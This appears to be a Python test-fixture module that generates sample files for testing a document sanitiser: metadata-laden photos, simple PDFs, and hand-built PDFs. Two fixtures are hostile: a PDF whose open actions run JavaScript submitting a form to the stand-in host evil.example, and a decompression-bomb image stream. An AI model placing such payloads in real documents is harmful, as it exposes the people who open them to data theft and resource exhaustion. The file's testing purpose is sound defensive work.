"""Papers that owners might send: pictures that know where they were taken, PDFs with pages, scripts and traps."""

import io
import zlib
from typing import Any

import pypdfium2
from PIL import Image
from PIL.PngImagePlugin import PngInfo

GPS, ORIENTATION, MAKE, DESCRIPTION = 0x8825, 0x0112, 0x010F, 0x010E


def photo(image_format: str = "JPEG", *, size: tuple[int, int] = (60, 40), orientation: int = 6) -> bytes:
    """Red on the left, blue on the right, lying on its side; with place, camera, comment and colour profile."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[ORIENTATION], exif[MAKE], exif[DESCRIPTION] = orientation, "Kamera Rahasia", "Ada di rumah"
    exif.get_ifd(GPS).update({1: "S", 2: (6.0, 10.0, 30.0), 3: "E", 4: (106.0, 49.0, 12.0)})
    more: dict[str, Any] = {"exif": exif, "icc_profile": b"a profile named Rahasia"}
    if image_format == "JPEG":
        more |= {"comment": b"Rahasia", "xmp": b"<x:xmpmeta>Rahasia</x:xmpmeta>", "quality": 95}
    elif image_format == "WEBP":
        more |= {"xmp": b"<x:xmpmeta>Rahasia</x:xmpmeta>", "quality": 95}
    else:
        texts = PngInfo()
        texts.add_text("Comment", "Rahasia")
        texts.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>Rahasia</x:xmpmeta>")
        more["pnginfo"] = texts
    content = io.BytesIO()
    image.save(content, image_format, **more)
    return content.getvalue()


def pdf(pages: int = 1, *, width: float = 595, height: float = 842) -> bytes:
    document = pypdfium2.PdfDocument.new()
    for _ in range(pages):
        document.new_page(width, height)
    content = io.BytesIO()
    document.save(content)
    return content.getvalue()


def hand_made_pdf(page: bytes = b"", *, root: bytes = b"", more: bytes = b"", drawing: bytes = b"") -> bytes:
    """One page, with whatever is wanted in its dictionary, in the catalogue, or among the objects."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + root + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R" + page + b">>endobj\n"
        b"4 0 obj<</Length %d>>stream\n" % len(drawing) + drawing + b"\nendstream endobj\n" + more + b""
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def with_script() -> bytes:
    """JavaScript that would run when the document is opened, and when the page is."""
    action = b"<</S/JavaScript/JS(app.alert\\('run'\\); this.submitForm\\('https://evil.example'\\);)>>"
    return hand_made_pdf(page=b"/AA<</O " + action + b">>", root=b"/OpenAction " + action)


def inflated_bomb(megabytes: int = 200) -> bytes:
    """A stream of a few kilobytes that unpacks to so many megabytes, as an image of a hundred million pixels."""
    packed = zlib.compress(bytes(megabytes * 2**20), 9)
    image = (
        b"5 0 obj<</Type/XObject/Subtype/Image/Width 20000/Height 20000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream endobj\n"
    )
    page = b"/Resources<</XObject<</I 5 0 R>>>>"
    return hand_made_pdf(page, more=image, drawing=b"200 0 0 200 0 0 cm /I Do")
